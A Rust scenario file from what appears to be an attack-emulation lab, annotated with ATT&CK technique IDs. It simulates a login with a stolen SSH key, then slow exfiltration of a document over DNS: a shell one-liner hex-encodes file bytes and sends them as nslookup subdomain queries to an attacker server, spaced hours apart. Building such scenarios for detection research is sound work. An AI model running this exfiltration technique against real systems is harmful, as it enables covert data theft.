//! With a stolen key, a document leaves as names that are asked for, some an hour.
//!
//! Hard because: the host asks a resolver for names by the same program all the time, each piece is a few bytes, and hours lie between.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key};
use crate::life::{documents, host_tasks, names};
use crate::program::user;
use anyhow::{Result, ensure};
use std::time::Duration;

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("files-4")?;
    let (admin, resolver, attacker) = (lab.outsider("admin")?, lab.outsider("resolver")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    documents::make(lab, &host)?;
    documents::edit(lab, &host)?;
    for server in [&resolver, &attacker] {
        names::serve(server)?;
    }
    names::ask(lab, &host, &resolver)?;
    remote::work(lab, &admin, &host, "deploy")?;
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/alice", user::ALICE)])?;
    lab.wait(14..20);

    let attack = lab.attack("theft by names")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "alice", to: &host };
    let step = attack.step("a login, and a document is chosen", &["T1078.003", "T1083"]);
    step.remote(&host, &attacker);
    let said = thief.log_in(&format!("{} ls -S {}/*/*.txt | head -3", step.mark(&host)?, documents::FOLDER))?;
    let document = said.lines().next().unwrap_or_default().trim().to_owned();
    ensure!(document.ends_with(".txt"), "there is no document: {said}");
    drop(step);

    let domain = format!("{}.example", lab.word(5));
    let mut from = 1;
    for n in 1..4 {
        let hours = lab.number(1..9);
        lab.pause(Duration::from_secs(3600 * u64::from(hours)));
        lab.wait(8..12);
        let step = attack.step(&format!("piece {n} leaves"), &["T1029", "T1030", "T1048.003", "T1071.004"]);
        step.remote(&host, &attacker);
        let (names, pace) = (lab.number(6..10), lab.number(3..9));
        thief.log_in(&format!(
            "{} for part in $(tail -c +{from} {document} | head -c {} | od -An -v -tx1 | tr -d \" \\n\" | fold -w 50); do \
             busybox nslookup $part.{domain} {} > /dev/null; sleep 0.{pace}; done; true",
            step.mark(&host)?,
            names * 25,
            attacker.address
        ))?;
        from += names * 25;
        drop(step);
        lab.wait(5..9);
    }
    Ok(())
}
